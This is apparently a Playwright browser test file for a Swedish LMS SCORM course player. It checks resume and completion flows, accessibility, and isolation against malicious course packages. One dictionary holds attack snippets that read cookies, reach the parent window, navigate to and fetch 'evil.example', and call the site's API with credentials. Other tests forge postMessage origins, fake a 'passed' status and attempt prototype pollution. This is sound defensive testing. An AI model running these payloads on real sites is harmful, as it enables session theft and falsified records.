"""Courses played in a real Chromium: left halfway, resumed, finished; and packages that mean harm."""

from __future__ import annotations

import io
import json
import time
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, FrameLocator, Page, expect

from competence.models.completion import Completion, CompletionClaim
from courses.models import Attempt, Course, ScoRuntime
from courses.scorm.demo import build_demo_package
from courses.scorm.tokens import sign_content
from lms.users.models import User
from tests.browser.axe import assert_accessible
from tests.browser.fixtures import PageErrors, log_in, new_context
from tests.browser.pictures import take_pictures
from tests.courses.packages import package, real_package, two_part_package, zip_of
from tests.factories.competence import make_person
from tests.factories.courses import edition_of, make_course
from tests.live import LiveProduct

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
RIGHT = [1, 2, 0, 0, 1, 2]
VALID = [
    "LaunchUrlFromNestedItem_SCORM12.zip",
    "PrerequisitesTest_SCORM12.zip",
    "RunTimeAdvancedCalls_SCORM20043rdEdition.zip",
    "RuntimeBasicCalls_SCORM12.zip",
    "RuntimeMinimumCalls_SCORM12.zip",
    "SequencingPostTestRollup4thEd_SCORM20044thEdition.zip",
    "SequencingSimpleRemediation_SCORM20043rdEdition.zip",
]


@pytest.fixture
def person(live_product: LiveProduct, page: Page) -> User:
    person = make_person()
    log_in(page, person, live_product)
    return person


def package_in(page: Page) -> FrameLocator:
    """The package's own page, in the launcher's frame, in ours."""
    return page.frame_locator("#frame").frame_locator("#content")


def begin(page: Page, course: Course) -> FrameLocator:
    page.goto(f"/mina-kurser/{course.key}/")
    page.get_by_role("button", name="Starta kursen").click()
    return package_in(page)


def saved(page: Page) -> None:
    expect(page.locator("#saving")).to_have_text("Allt är sparat")


def accept(dialog: Dialog) -> None:
    dialog.accept()


def answer_test(inside: FrameLocator, answers: list[int]) -> None:
    for question, answer in enumerate(answers):
        inside.locator("fieldset").nth(question).locator("input").nth(answer).check()
    inside.get_by_role("button", name="Rätta mina svar").click()


def test_the_projects_own_course_left_halfway_resumed_and_finished(page: Page, person: User) -> None:
    course = make_course(build_demo_package(), title="Regional utbildning för förskrivare", is_trusted=True)
    inside = begin(page, course)
    expect(inside.locator(".page.open h1")).to_have_text("Regional utbildning för förskrivare")
    take_pictures(page, "spelaren")
    for _page in range(3):
        inside.get_by_role("button", name="Nästa").click()
    expect(inside.locator(".page.open h1")).to_have_text("Beställningssystemen i översikt")
    page.goto("/mina-kurser/")
    expect(page.get_by_text("Påbörjad")).to_be_visible()

    page.get_by_role("link", name="Fortsätt").click()
    expect(inside.locator(".page.open h1")).to_have_text("Beställningssystemen i översikt")
    inside.get_by_role("button", name="Kunskapstest").click()
    answer_test(inside, [0, 0, 1, 1, 0, 0])
    expect(inside.get_by_text("Inte riktigt ännu")).to_be_visible()
    expect(page.get_by_text("Du är inte godkänd ännu")).to_be_visible()
    assert not Completion.objects.exists()

    inside.get_by_role("button", name="Gör om testet").click()
    answer_test(inside, RIGHT)
    expect(inside.get_by_text("Bra gjort, du är klar!")).to_be_visible()
    expect(page.get_by_text("Kursen är klar och registrerad.")).to_be_visible()
    take_pictures(page, "spelaren-klar")
    completion = Completion.objects.get(person=person)
    assert (completion.course.key, completion.score) == (course.key, Decimal(100))

    page.get_by_role("link", name="Spara och stäng").click()
    expect(page.get_by_role("link", name="Titta igen")).to_be_visible()
    assert "Godkänd" in page.content()


def test_a12_the_learner_is_told_at_once_that_the_manager_attests(page: Page, person: User) -> None:
    inside = begin(page, make_course(build_demo_package()))
    inside.get_by_role("button", name="Kunskapstest").click()
    answer_test(inside, RIGHT)
    expect(page.get_by_text("Kursen räknas när din chef har intygat den.")).to_be_visible()
    assert CompletionClaim.objects.get(person=person).source == "scorm"


def test_the_course_is_taken_on_a_phone_by_keyboard_alone(page: Page, person: User) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    course = make_course(build_demo_package(), title="Regional utbildning för förskrivare", is_trusted=True)
    page.goto(f"/mina-kurser/{course.key}/")
    page.get_by_role("button", name="Starta kursen").press("Enter")
    inside = package_in(page)
    for _page in range(5):
        inside.locator("#next").press("Enter")
        expect(inside.locator("h1:visible")).to_be_focused()
    inside.locator("#next").press("Enter")
    for question, answer in enumerate(RIGHT):
        first = inside.locator("fieldset").nth(question).locator("input").nth(0)
        first.focus()
        first.press("Space")
        for _step in range(answer):
            inside.locator("fieldset").nth(question).locator("input:checked").press("ArrowDown")
    inside.get_by_role("button", name="Rätta mina svar").press("Enter")
    expect(page.get_by_text("Kursen är klar och registrerad.")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")


def test_a_real_package_left_halfway_resumed_and_finished(page: Page, person: User) -> None:
    """A golf course that nobody here wrote. It asks whether to resume in a dialog, and commits nothing by itself."""
    questions: list[str] = []

    def answer(dialog: Dialog) -> None:
        questions.append(dialog.message)
        dialog.accept()

    page.on("dialog", answer)
    data = real_package("RuntimeBasicCalls_SCORM12.zip").read_bytes()
    course = make_course(data, title="Golf", is_trusted=True)
    inside = begin(page, course)
    for _page in range(4):
        inside.locator("#butNext").click()
    expect(inside.frame_locator("#contentFrame").locator("h1")).to_contain_text("The Rules of Golf")
    page.goto("/mina-kurser/")

    page.get_by_role("link", name="Fortsätt").click()
    expect(inside.frame_locator("#contentFrame").locator("h1")).to_contain_text("The Rules of Golf")
    assert len(questions) == 1
    for _page in range(10):
        inside.locator("#butNext").click()
    quiz = inside.frame_locator("#contentFrame")
    expect(quiz.get_by_text("Knowledge Check")).to_be_visible()
    saved(page)
    assert not Completion.objects.exists()  # it says "completed" here, in passing, before the test is taken
    for right in quiz.locator(".correctAnswer").all():
        if right.locator("input[type=radio]").count():
            right.locator("input").check()
        else:
            right.locator("input").fill(right.inner_text().strip(" ()"))
    quiz.get_by_role("button", name="Submit").click()
    expect(page.get_by_text("Kursen är klar och registrerad.")).to_be_visible()
    attempt = Attempt.objects.get(person=person)
    assert (attempt.status, attempt.score, attempt.edition.course) == ("passed", Decimal(100), course)
    inside.locator("#butExit").click()
    expect(page.get_by_text("Den här delen är avslutad och sparad")).to_be_visible()
    assert ScoRuntime.objects.get().has_ended is True
    assert Completion.objects.count() == 1


@pytest.mark.parametrize("name", VALID)
def test_every_real_package_starts_and_says_nothing_of_an_error(
    page: Page, person: User, name: str, settings: Any
) -> None:
    said: list[str] = []

    def note(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.accept()

    if "PostTest" in name:
        # It wants jQuery from a web site of somebody else's, for its notes: allowed here, and put in its place.
        settings.PACKAGE_SOURCES = ["https://ajax.googleapis.com"]
        page.route(
            "https://ajax.googleapis.com/**", lambda route: route.fulfill(body=JQUERY, content_type="text/javascript")
        )
    page.on("dialog", note)
    inside = begin(page, make_course(real_package(name).read_bytes(), title=name))
    expect(inside.locator("body > *").first).to_be_attached()
    page.wait_for_load_state("networkidle")
    if inside.locator("#butNext").count():
        inside.locator("#butNext").click()
        saved(page)
    assert said == []
    assert not page.locator("[data-notice]:visible").count()
    page.get_by_role("link", name="Spara och stäng").click()
    page.wait_for_url("**/mina-kurser/kurs-*/")
    assert said == []


JQUERY = "window.$ = () => new Proxy({}, { get: () => () => '' });"


def test_a_course_of_several_parts_has_contents_and_goes_on_by_itself(page: Page, person: User) -> None:
    script = """<h1>%s</h1><button onclick="done()">Klar</button><script>
      const api = parent.API; api.LMSInitialize("");
      const done = () => { api.LMSSetValue("cmi.core.lesson_status", "completed"); api.LMSFinish(""); };</script>"""
    files = {**_files(two_part_package()), "d1.html": script % "Ett", "d2.html": script % "Tva"}
    begin(page, make_course(zip_of(files), is_trusted=True))
    inside = package_in(page)
    expect(inside.get_by_role("heading")).to_have_text("Ett")
    expect(page.get_by_role("button", name="Föregående del")).to_be_disabled()
    inside.get_by_role("button", name="Klar").click()
    expect(page.get_by_text("1 av 2 klara")).to_be_visible()
    page.get_by_role("button", name="Nästa del").click()
    expect(inside.get_by_role("heading")).to_have_text("Tva")
    take_pictures(page, "spelaren-delar")
    assert_accessible_around(page)
    page.get_by_role("button", name="Del 1").click()
    expect(inside.get_by_role("heading")).to_have_text("Ett")
    page.get_by_role("button", name="Nästa del").click()
    inside.get_by_role("button", name="Klar").click()
    expect(page.get_by_text("Kursen är klar och registrerad.")).to_be_visible()


def assert_accessible_around(page: Page) -> None:
    """No axe violation on our page; the package in its frame is its author's business."""
    page.evaluate("document.getElementById('frame').setAttribute('inert', '')")
    assert_accessible(page)
    page.evaluate("document.getElementById('frame').removeAttribute('inert')")


TRIES: dict[str, str] = {
    "cookie": "document.cookie || 'none'",
    "parent document": "top.document.title",
    "parent storage": "top.localStorage.length",
    "parent address": "top.location.href",
    "navigate top": "(top.location.href = 'https://evil.example/', 'gone')",
    "our pages with cookies": "fetch(BASE + '/mina-kurser/', {credentials: 'include'}).then(r => r.text())",
    "our api with cookies": "fetch(BASE + '/api/v1/openapi.json', {credentials: 'include'}).then(r => r.text())",
    "our pages, blind": "fetch(BASE + '/mina-kurser/', {credentials: 'include', mode: 'no-cors'}).then(r => 'sent')",
    "elsewhere": "fetch('https://evil.example/?x=1', {mode: 'no-cors'}).then(r => 'sent')",
    "service worker": "navigator.serviceWorker.register('sw.js').then(() => 'registered')",
}


def test_a07_a_package_reaches_neither_cookies_nor_pages_nor_api(
    page: Page, person: User, live_product: LiveProduct, page_errors: PageErrors
) -> None:
    tries = ",".join(f"{json.dumps(name)}: async () => ({code})" for name, code in TRIES.items())
    html = f"""<!doctype html><title>x</title><pre id=out></pre><script>
      const BASE = {json.dumps(live_product.base_url)};
      const tries = {{{tries}}};
      (async () => {{ const out = {{}};
        for (const [name, run] of Object.entries(tries)) {{
          try {{ out[name] = String(await run()).slice(0, 60); }} catch (error) {{ out[name] = "blocked"; }}
        }}
        document.getElementById("out").textContent = JSON.stringify(out);
      }})();</script>"""
    begin(page, make_course(zip_of({**_files(package()), "index.html": html, "sw.js": "//"})))
    out = package_in(page).locator("#out")
    expect(out).not_to_be_empty()
    results = json.loads(out.inner_text())
    page_errors.clear()  # the policy complained, as it should

    assert results.pop("cookie") == "none"
    assert set(results.values()) == {"blocked"}, results
    assert page.url.startswith(live_product.base_url)


def _files(data: bytes) -> dict[str, bytes | str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def test_a08_messages_that_are_not_the_launchers_are_dropped(page: Page, person: User) -> None:
    """From another origin, of a wrong shape, for an old attempt: nothing is shown, and nothing is asked for."""
    page.clock.install()
    begin(page, make_course())
    expect(package_in(page).locator("p")).to_have_text("Hej")
    attempt = Attempt.objects.get()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "/lage/" in request.url else None)
    good = {
        "sender": "launcher",
        "attempt": str(attempt.public_id),
        "launch": str(attempt.launch_id),
        "kind": "saved",
        "status": "passed",
    }
    page.evaluate("data => window.postMessage(data, '*')", good)  # our own origin is not the launcher's
    for change in (
        {"attempt": "00000000-0000-0000-0000-000000000000"},
        {"launch": "00000000-0000-0000-0000-000000000000"},
        {"sender": "other"},
        {"kind": "toString"},
        {"kind": ["saved"]},
    ):
        _from_package(page, {**good, **change})
    for shape in (None, "saved", 1, [], ["saved"]):
        _from_package(page, shape)
    # The package has the launcher's origin, but is not the launcher; a frame that was led elsewhere is not either.
    content_origin = page.evaluate("new URL(document.getElementById('frame').src).origin")
    package_frame = next(frame for frame in page.frames if "/p/" in frame.url)
    package_frame.evaluate("data => window.top.postMessage(data, '*')", good)
    _as_if_from(page, good, origin=content_origin, source="window")
    _as_if_from(page, good, origin="https://evil.example", source="frame.contentWindow")
    for kind in ("toString", "__proto__", ["saved"], {"0": "saved"}, None):  # the launcher's own, but no word of its
        _as_if_from(page, {**good, "kind": kind}, origin=content_origin, source="frame.contentWindow")
    page.wait_for_timeout(300)
    assert asked == []
    assert page.locator("#saving").inner_text() == ""

    _as_if_from(page, good, origin=content_origin, source="frame.contentWindow")
    page.wait_for_timeout(300)
    assert len(asked) == 1, "the launcher's own is heard"


def test_a08_a_package_that_claims_to_be_passed_changes_only_what_the_server_knows(page: Page, person: User) -> None:
    begin(page, make_course(is_trusted=True))
    expect(package_in(page).locator("p")).to_have_text("Hej")
    attempt = Attempt.objects.get()
    claim = {"sender": "launcher", "attempt": str(attempt.public_id), "launch": str(attempt.launch_id)}
    with page.expect_response(lambda response: "/lage/" in response.url):
        _from_package(page, {**claim, "kind": "saved", "status": "passed", "outcome": "completion"})
    expect(page.locator(".player__result")).to_have_attribute("data-status", "started")
    assert not Completion.objects.exists()


def _as_if_from(page: Page, data: Any, *, origin: str, source: str) -> None:
    """A message that says where it comes from as we like. `source`: an expression in the page."""
    page.evaluate(
        f"""([data, origin]) => {{
          const frame = document.getElementById("frame");
          window.dispatchEvent(new MessageEvent("message", {{ data, origin, source: {source} }}));
        }}""",
        [data, origin],
    )


def _from_package(page: Page, data: Any) -> None:
    """A message from the launcher's own frame, where a package's script can put itself."""
    frame = next(frame for frame in page.frames if "/launch/" in frame.url)
    frame.evaluate("data => window.parent.postMessage(data, '*')", data)


def test_f08_a_second_tab_fences_the_first_which_says_so(
    page: Page, person: User, live_product: LiveProduct, live_chromium: Browser
) -> None:
    course = make_course(build_demo_package())
    inside = begin(page, course)
    expect(inside.locator(".page.open h1")).to_be_visible()
    second = page.context.new_page()
    second.goto(f"/mina-kurser/{course.key}/spela/")
    package_in(second).get_by_role("button", name="Nästa").click()
    saved(second)
    inside.get_by_role("button", name="Nästa").click()
    expect(page.get_by_text("Kursen är öppen på ett annat ställe")).to_be_visible()
    take_pictures(page, "spelaren-annan-flik")
    page.get_by_role("link", name="Fortsätt här").click()
    inside.get_by_role("button", name="Nästa").click()
    saved(page)


def test_f02_a_lost_line_is_told_and_everything_is_saved_when_it_is_back(page: Page, person: User) -> None:
    course = make_course(build_demo_package())
    inside = begin(page, course)
    expect(inside.locator(".page.open h1")).to_be_visible()
    saved(page)
    replies = {"lost": 0}

    def lose(route: Any) -> None:
        if replies["lost"] == 0:
            route.fetch()  # the server saves, but its answer is lost
        replies["lost"] += 1
        route.abort()

    page.route("**/commit?*", lose)
    inside.get_by_role("button", name="Nästa").click()
    expect(page.get_by_text("Ingen kontakt med servern", exact=True)).to_be_visible()
    inside.get_by_role("button", name="Nästa").click()
    page.unroute("**/commit?*")
    saved(page)
    expect(page.get_by_text("Ingen kontakt med servern", exact=True)).to_be_hidden()
    assert json.loads(ScoRuntime.objects.get().data)["cmi.core.lesson_location"] == "avtal"


def test_a_farewell_too_large_for_a_closing_page_keeps_the_place(page: Page, person: User) -> None:
    html = """<!doctype html><title>x</title><p>Hej<script>
      const api = parent.API; api.LMSInitialize("");
      window.addEventListener("pagehide", () => {
        api.LMSSetValue("cmi.suspend_data", "å".repeat(40000));
        api.LMSSetValue("cmi.core.lesson_location", "sista");
        api.LMSSetValue("cmi.core.exit", "suspend");
        api.LMSFinish("");
      });</script>"""
    begin(page, make_course(zip_of({**_files(package()), "index.html": html})))
    expect(package_in(page).locator("p")).to_have_text("Hej")
    page.goto("/mina-kurser/")
    _until(lambda: json.loads(ScoRuntime.objects.get().data).get("cmi.core.lesson_location") == "sista")


def _until(holds: Callable[[], bool], seconds: float = 5) -> None:
    deadline = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < deadline
        time.sleep(0.05)


def test_a_package_cannot_destroy_the_data_model(page: Page, person: User) -> None:
    begin(page, make_course())
    expect(package_in(page).locator("p")).to_have_text("Hej")
    frame = next(frame for frame in page.frames if "/launch/" in frame.url)
    results = frame.evaluate(
        """() => { API.LMSInitialize("");
          return ["cmi", "adl", "", "cmi.", "cmi.__proto__.x", "__proto__"].map(
            (element) => [API.LMSSetValue(element, "{}"), API.LMSGetLastError() !== "0"])
            .concat([[API.LMSGetValue("cmi.core.lesson_mode"), API.LMSGetLastError() === "0"]]); }"""
    )
    assert results == [["false", True]] * 6 + [["normal", True]]


def test_pages_about_courses_are_accessible(
    page: Page, person: User, live_product: LiveProduct, live_chromium: Browser
) -> None:
    course = make_course(build_demo_package(), title="Regional utbildning för förskrivare")
    begin(page, course)
    for path in ("/mina-kurser/", f"/mina-kurser/{course.key}/", f"/mina-kurser/{course.key}/spela/"):
        page.goto(path)
        take_pictures(page, f"kurser-{path.strip('/').replace('/', '-')}")
        assert_accessible_around(page) if path.endswith("spela/") else assert_accessible(page)
    context = new_context(live_chromium, live_product, java_script_enabled=False)
    plain = context.new_page()
    log_in(plain, person, live_product)
    plain.goto(f"/mina-kurser/{course.key}/spela/")
    expect(plain.get_by_text("Kursen behöver JavaScript")).to_be_visible()
    context.close()


def test_the_projects_own_course_is_accessible_on_every_page(page: Page, live_product: LiveProduct) -> None:
    course = make_course(build_demo_package())
    prefix = sign_content(edition_of(course).scorm_package.public_id)
    page.goto(f"{live_product.content_origin}/p/{prefix}/index.html")
    for number in range(7):
        expect(page.locator("#place")).to_have_text(f"{number + 1} av 7")
        take_pictures(page, f"kursen-{number + 1}")
        assert_accessible(page)
        page.set_viewport_size({"width": 320, "height": 600})
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
        page.set_viewport_size({"width": 1280, "height": 900})
        if number < 6:
            page.locator("#next").click()
    for question, answer in enumerate([0, *RIGHT[1:]]):
        page.locator("fieldset").nth(question).locator("input").nth(answer).check()
    page.get_by_role("button", name="Rätta mina svar").click()
    assert_accessible(page)
